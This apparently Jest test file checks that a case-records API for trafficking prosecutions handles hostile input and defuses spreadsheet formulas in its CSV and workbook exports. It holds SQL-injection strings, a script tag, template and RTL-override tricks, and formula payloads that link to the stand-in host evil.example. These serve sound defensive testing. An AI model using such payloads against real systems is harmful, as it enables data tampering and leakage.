import { buildWorkbook, goodCase } from 'test/fixtures/imports/workbook-builder';
import { Agent, signIn } from 'test/support/agent';
import { caseBody, caseWithRecords } from 'test/support/case-body';
import { routeCatalogue, RouteEntry } from 'test/support/route-catalogue';
import { createTestApp, TestApp } from 'test/support/test-app';
import { binary, sheets } from 'test/support/workbook-reader';

/** SQL meta-characters, lengths and Unicode a text field may be sent. */
const HOSTILE_TEXT: Record<string, string> = {
  'quote or': "' OR 1=1 --",
  'drop table': '"; DROP TABLE cases; --',
  backslash: 'C:\\temp\\x\\',
  percent: '100% _sure_',
  'lone percent': '%',
  'lone underscore': '_',
  'very long': 'x'.repeat(100_000),
  'just too long': 'y'.repeat(4001),
  'RTL override': 'abc\u202Etxt.exe',
  'zero width': 'zero\u200Bwidth\u200Cjoin\u200Dthis',
  NUL: 'nul\u0000byte',
  'high surrogate alone': 'lone \uD800 high',
  'low surrogate alone': 'lone \uDC00 low',
  'combining marks': 'Z\u0351\u0334a\u0300\u0301\u0302l\u0327g\u0336o',
  emoji: 'family 👩‍👩‍👧 flag 🇵🇰 ✓',
  urdu: 'تھانہ سول لائنز',
  'line separator': 'one\u2028two',
  BOM: '\uFEFFbom',
  markup: '<script>alert(1)</script>',
  template: '${7*7}{{7*7}}',
};

/** Text a spreadsheet program would run as a formula. Each is unique, to find it in any export. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x=7301","open")',
  '+1+7302',
  '-2+7303',
  '@SUM(7304)',
  '\t=7305',
  '\r=7306',
  '=7307',
];
const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
/** The formula's own text, for finding it whatever came before it in a cell. */
const mark = (formula: string) => formula.replace(/^[\t\r]/, '');

describe('injection through every text field and query parameter', () => {
  let t: TestApp;
  let admin: Agent;
  let analyst: Agent;
  let focal: Agent;
  const ids: Record<string, string> = {};
  let firs = 0;

  beforeAll(async () => {
    t = await createTestApp({ LOGIN_IP_LIMIT_PER_MINUTE: '100000', EXPORT_GENERATIONS_PER_HOUR: '1000' });
    [admin, analyst, focal] = await Promise.all([
      signIn(t, 'admin'),
      signIn(t, 'analyst'),
      signIn(t, 'focal_person', 'PK-PB'),
    ]);
    Object.assign(ids, await caseWithRecords(focal, newCase()));
  });
  afterAll(() => t.close());

  const newCase = (overrides: object = {}) =>
    caseBody({
      firNumber: `INJ-${++firs}`,
      status: 'under_trial',
      statusDate: '2024-03-01',
      investigationConcludedOn: '2024-02-20',
      ...overrides,
    });

  /** The writes of a case and its people, each with a body that passes, and where to read the record back. */
  const WRITES: Array<{
    method: 'post' | 'patch';
    path: () => string;
    base: () => object;
    read: (id: string) => string;
  }> = [
    { method: 'post', path: () => '/api/v1/cases', base: () => newCase(), read: (id) => `/api/v1/cases/${id}` },
    {
      method: 'patch',
      path: () => `/api/v1/cases/${ids.caseId}`,
      base: () => ({}),
      read: (id) => `/api/v1/cases/${id}`,
    },
    {
      method: 'post',
      path: () => `/api/v1/cases/${ids.caseId}/victims`,
      base: () => ({ ref: `V${++firs}` }),
      read: (id) => `/api/v1/cases/${ids.caseId}/victims/${id}`,
    },
    {
      method: 'post',
      path: () => `/api/v1/cases/${ids.caseId}/defendants`,
      base: () => ({ ref: `D${++firs}` }),
      read: (id) => `/api/v1/cases/${ids.caseId}/defendants/${id}`,
    },
    {
      method: 'patch',
      path: () => `/api/v1/cases/${ids.caseId}/defendants/${ids.defendantId}`,
      base: () => ({}),
      read: (id) => `/api/v1/cases/${ids.caseId}/defendants/${id}`,
    },
    // a defendant has one prosecution: its fields are tried on the stored one
    {
      method: 'patch',
      path: () => `/api/v1/cases/${ids.caseId}/prosecutions/${ids.pid}`,
      base: () => ({}),
      read: (id) => `/api/v1/cases/${ids.caseId}/prosecutions/${id}`,
    },
  ];

  /** The body fields of a write, from the route table, so that a new field is tried without editing this test. */
  const fieldsOf = (catalogue: RouteEntry[], method: string, path: string) => {
    const pattern = path.replace(/[0-9a-f]{8}-[0-9a-f-]{27}/g, ':x');
    const route = catalogue.find((r) => r.method === method.toUpperCase() && r.path.replace(/:\w+/g, ':x') === pattern);
    if (!route) throw new Error(`no route ${method} ${path}`);
    return route.bodyFields;
  };

  it('answers hostile text in every field of cases, victims, defendants and prosecutions with 400, or stores it exactly', async () => {
    const catalogue = routeCatalogue(t.app);
    const wrong: string[] = [];
    const stored = new Set<string>();
    let tried = 0;
    for (const write of WRITES) {
      const fields = [...fieldsOf(catalogue, write.method, write.path()), 'route[0].place', 'route[0].district'];
      for (const field of fields) {
        if (field.startsWith('route[') && !write.path().endsWith('/cases')) continue;
        for (const [label, text] of Object.entries(HOSTILE_TEXT)) {
          const body: Record<string, unknown> = { ...write.base() };
          if (field.startsWith('route[')) {
            const key = field.split('.')[1];
            body.route = [{ kind: 'origin', country: 'PAK', district: 'Lahore', [key]: text }];
          } else body[field] = text;
          const res = await focal[write.method](write.path()).send(body);
          tried++;
          const where = `${write.method.toUpperCase()} ${write.path()} ${field} ${label}: ${res.status}`;
          if (res.status >= 500 || (res.status >= 400 && !/problem\+json/.test(res.headers['content-type']))) {
            wrong.push(where);
            continue;
          }
          if (res.status >= 400) {
            // the problem never echoes the text
            if (text.length > 3 && JSON.stringify(res.body).includes(JSON.stringify(text).slice(1, -1)))
              wrong.push(`${where} echoed`);
            continue;
          }
          const id = res.body.id ?? ids.caseId;
          const back = await focal.get(write.read(id));
          const value = field.startsWith('route[')
            ? back.body.route?.[0]?.[field.split('.')[1]]
            : (back.body as Record<string, unknown>)[field];
          // fields kept as codes or hashes are not read back as text; the others are what was sent (identifying
          // fields without the white space around it, a leading byte-order mark being white space too)
          if (typeof value === 'string' && value !== text && value !== text.trim())
            wrong.push(`${where} read back ${JSON.stringify(value).slice(0, 40)}`);
          if (typeof value === 'string') stored.add(field);
        }
      }
    }
    expect(wrong).toEqual([]);
    expect(tried).toBeGreaterThan(300);
    // the free-text fields did take hostile text that is not refused by rule
    expect([...stored]).toEqual(expect.arrayContaining(['policeStation', 'remarks', 'name', 'court']));
    expect((await t.dataSource.query(`SELECT to_regclass('public.cases') AS t`))[0].t).toBe('cases');
  }, 600_000);

  it('answers hostile values in every query parameter of every list, statistic and export with 200 or a problem, never a 500', async () => {
    const wrong: string[] = [];
    const gets = routeCatalogue(t.app).filter((r) => r.method === 'GET' && r.queryFields.length > 0);
    expect(gets.length).toBeGreaterThan(8);
    for (const route of gets) {
      const who = route.roles !== 'public' && route.roles.includes('analyst') ? analyst : admin;
      const path = route.path.replace(/:(\w+)/g, (_, p: string) => (p === 'code' ? 'PK-PB' : ids.caseId));
      const base: Record<string, string> = route.path.startsWith('/api/v1/statistics/')
        ? {
            from: '2024-01-01',
            to: '2024-12-31',
            ...(route.path.endsWith('trends') ? { metric: 'casesRegistered' } : {}),
          }
        : route.path === '/api/v1/exports/monthly'
          ? { month: '2024-06', audience: 'internal' }
          : {};
      for (const field of route.queryFields) {
        for (const [label, text] of Object.entries(HOSTILE_TEXT)) {
          if (text.length > 5000) continue; // a URL that long is the HTTP server's to refuse
          const res = await who.get(path).query({ ...base, [field]: text });
          const problem = res.status < 400 || /problem\+json/.test(res.headers['content-type']);
          if (res.status >= 500 || !problem) wrong.push(`${route.path}?${field}=${label}: ${res.status}`);
        }
      }
    }
    expect(wrong).toEqual([]);
  }, 600_000);

  it('refuses in the names of reference data (districts, aliases, reporting units) what case fields refuse', async () => {
    for (const [label, text] of Object.entries(HOSTILE_TEXT)) {
      const refusedInCases = [
        'RTL override',
        'NUL',
        'high surrogate alone',
        'low surrogate alone',
        'very long',
      ].includes(label);
      const code = `PK-R${label.length}${label.charCodeAt(0)}`
        .slice(0, 16)
        .toUpperCase()
        .replace(/[^A-Z0-9-]/g, '');
      for (const res of [
        await admin.post('/api/v1/jurisdictions/PK-PB/districts', { code, name: text }),
        await admin.post('/api/v1/districts/PK614/aliases', { alias: text }),
        await admin.post('/api/v1/reporting-units', {
          code: `U-${code}`,
          name: text,
          agency: 'other',
          jurisdictions: ['PK-PB'],
        }),
        await admin.patch('/api/v1/reporting-units/FIA', { name: text }),
      ]) {
        expect([label, res.status < 500]).toEqual([label, true]);
        if (refusedInCases) expect([label, res.status]).toEqual([label, 400]);
      }
    }
    const [fia] = await t.dataSource.query(`SELECT name FROM reporting_units WHERE code = 'FIA'`);
    expect([fia.name.includes('\u0000'), fia.name.includes('\u202E')]).toEqual([false, false]);
  });

  it('reads a search with SQL meta-characters as text: nothing matches that is not in the text', async () => {
    // a unit of its own, so that the cases of the other tests (whose police stations are hostile text) are not listed
    const sindh = await signIn(t, 'focal_person', 'PK-SD');
    const created = await sindh.post(
      '/api/v1/cases',
      newCase({ district: 'Karachi South', route: undefined, policeStation: "PS O'Brien 100% _x_" }),
    );
    expect(created.status).toBe(201);
    const total = async (search: string) => (await sindh.get('/api/v1/cases').query({ search })).body.total;
    expect(await total("' OR 1=1 --")).toBe(0);
    expect(await total('"; DROP TABLE cases; --')).toBe(0);
    expect(await total("o'brien 100")).toBe(1);
    expect(await total('zzz%')).toBe(0);
  });

  describe('formulas in every export', () => {
    /** Every text cell of a workbook, with where it is. */
    const cellsOf = async (bytes: Buffer) => {
      const out: Array<[string, string]> = [];
      for (const [sheet, rows] of Object.entries(await sheets(bytes)))
        rows.forEach((row, r) =>
          row.forEach((cell, c) => {
            const text =
              typeof cell === 'string'
                ? cell
                : cell && typeof cell === 'object' && 'richText' in cell
                  ? (cell as { richText: Array<{ text: string }> }).richText.map((p) => p.text).join('')
                  : cell && typeof cell === 'object' && 'formula' in cell
                    ? `=${(cell as { formula: string }).formula}`
                    : null;
            if (text !== null) out.push([`${sheet}!R${r + 1}C${c + 1}`, text]);
          }),
        );
      return out;
    };
    /** RFC 4180 fields of a CSV text. */
    const csvFields = (text: string) => {
      const fields: string[] = [];
      const re = /(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g;
      for (const m of text.replace(/^\uFEFF/, '').matchAll(re))
        fields.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]);
      return fields;
    };
    /** The cells that hold one of the formulas, and whether each is defused (begins with a quote, so it is text). */
    const unsafe = (cells: Array<[string, string]>) =>
      cells.filter(([, text]) => FORMULAS.some((f) => text.includes(mark(f))) && FORMULA_START.test(text));

    let stored: string[];
    beforeAll(async () => {
      // a district and a reporting unit named like formulas (an admin's reference data appears in the workbooks)
      const district = await admin.post('/api/v1/jurisdictions/PK-PB/districts', {
        code: 'PK-FX1',
        name: '=HYPERLINK("http://evil.example/?x=7308","d")',
      });
      expect(district.status).toBe(201);
      const unit = await admin.post('/api/v1/reporting-units', {
        code: 'FORMULA-UNIT',
        name: '+7309+1',
        agency: 'other',
        jurisdictions: ['PK-PB'],
      });
      expect(unit.status).toBe(201);
      // each formula in every free-text field a case and its people take (tabs and line breaks only in remarks)
      stored = [];
      for (const [i, formula] of FORMULAS.entries()) {
        const single = /^[\t\r]/.test(formula) ? `x${formula}`.replace(/[\t\r]/g, ' ') : formula;
        const c = await focal.post(
          '/api/v1/cases',
          newCase({
            firDate: '2024-06-05',
            investigationConcludedOn: '2024-06-15',
            statusDate: '2024-06-20',
            district: i === 0 ? 'PK-FX1' : 'Lahore',
            policeStation: single,
            remarks: formula,
            route: [
              { kind: 'origin', country: 'PAK', district: 'Lahore', place: single },
              { kind: 'destination', country: 'OMN', place: single },
            ],
          }),
        );
        expect([formula, c.status]).toEqual([formula, 201]);
        const d = await focal.post(`/api/v1/cases/${c.body.id}/defendants`, {
          ref: 'D1',
          name: single,
          groupName: single,
        });
        expect([formula, d.status]).toEqual([formula, 201]);
        const v = await focal.post(`/api/v1/cases/${c.body.id}/victims`, { ref: 'V1', residenceDistrict: 'Lahore' });
        expect(v.status).toBe(201);
        const p = await focal.post(`/api/v1/cases/${c.body.id}/prosecutions`, {
          defendantId: d.body.id,
          prosecutionDate: '2024-06-20',
          court: single,
        });
        expect([formula, p.status]).toEqual([formula, 201]);
        stored.push(single);
      }
    });

    it('defuses them in the case export, as CSV and as a workbook', async () => {
      const csv = await analyst.get('/api/v1/exports/cases?format=csv');
      expect(csv.status).toBe(200);
      const fields = csvFields(csv.text);
      const found = fields.filter((f) => FORMULAS.some((x) => f.includes(mark(x))));
      // every police station, district name and route place above is in it
      expect(found.length).toBeGreaterThanOrEqual(FORMULAS.length);
      expect(unsafe(fields.map((f, i) => [`field ${i}`, f]))).toEqual([]);

      const xlsx = await binary(analyst.get('/api/v1/exports/cases?format=xlsx'));
      expect(xlsx.status).toBe(200);
      const cells = await cellsOf(xlsx.body);
      expect(cells.filter(([, text]) => FORMULAS.some((x) => text.includes(mark(x)))).length).toBeGreaterThanOrEqual(
        FORMULAS.length,
      );
      expect(unsafe(cells)).toEqual([]);
    });

    it('defuses them in the monthly workbooks: police stations, district and unit names', async () => {
      for (const audience of ['internal', 'ministry']) {
        const generated = await admin.post('/api/v1/exports/monthly', { month: '2024-06', audience });
        expect([audience, generated.status]).toEqual([audience, 201]);
        const file = await binary(admin.get(`/api/v1/exports/${generated.body.id}`));
        expect(file.status).toBe(200);
        const cells = await cellsOf(file.body);
        if (audience === 'internal') {
          const found = cells.filter(
            ([, text]) => FORMULAS.some((x) => text.includes(mark(x))) || /730[89]/.test(text),
          );
          // the police stations of the case sheet, the district and the unit
          expect(found.length).toBeGreaterThanOrEqual(FORMULAS.length);
          expect(found.some(([, text]) => text.includes('7309'))).toBe(true);
        }
        expect([audience, unsafe(cells), cells.filter(([, text]) => /^[=+\-@].*730[89]/.test(text))]).toEqual([
          audience,
          [],
          [],
        ]);
      }
    });

    it('defuses them in the error report of a rejected upload, headers included', async () => {
      const sheetsData = goodCase('0991', { 'FIR Date': 'not a date' });
      for (const [i, formula] of FORMULAS.entries()) {
        sheetsData.Cases.push({
          ...sheetsData.Cases[0],
          'FIR No': `09${i}`,
          'Police Station': formula,
          Remarks: formula,
        });
        sheetsData.Defendants.push({ ...sheetsData.Defendants[0], 'FIR No': `09${i}`, Name: formula });
      }
      // a column of the uploader's own, its header a formula too
      sheetsData.Cases[0]['=7310+1'] = '@SUM(7311)';
      for (const [name, file] of [
        ['upload.xlsx', await buildWorkbook(sheetsData)],
        ['cases.csv', Buffer.from(toCsv(sheetsData.Cases))],
      ] as const) {
        const upload = await focal.upload(file, { name, sheet: name.endsWith('.csv') ? 'Cases' : undefined });
        expect([name, upload.status]).toEqual([name, 422]);
        const report = await binary(focal.get(`/api/v1/imports/${upload.body.id}/report.xlsx`));
        expect([name, report.status]).toEqual([name, 200]);
        const cells = await cellsOf(report.body);
        const found = cells.filter(([, text]) => FORMULAS.some((x) => text.includes(mark(x))) || /731[01]/.test(text));
        expect([name, found.length >= FORMULAS.length]).toEqual([name, true]);
        expect([name, unsafe(cells), cells.filter(([, text]) => /^[=+\-@].*731[01]/.test(text))]).toEqual([
          name,
          [],
          [],
        ]);
      }
    });

    it('keeps the stored text as typed: only the exports defuse it', async () => {
      const rows = await t.dataSource.query(`SELECT police_station FROM cases WHERE police_station = ANY($1)`, [
        stored,
      ]);
      expect(rows.length).toBe(FORMULAS.length);
    });
  });
});

/** A sheet's rows as CSV, every field quoted. */
function toCsv(rows: Array<Record<string, unknown>>): string {
  const headers = [...new Set(rows.flatMap((r) => Object.keys(r)))];
  const quote = (v: unknown) =>
    `"${(typeof v === 'string' || typeof v === 'number' ? String(v) : '').replace(/"/g, '""')}"`;
  return [headers.map(quote).join(','), ...rows.map((r) => headers.map((h) => quote(r[h])).join(','))].join('\r\n');
}
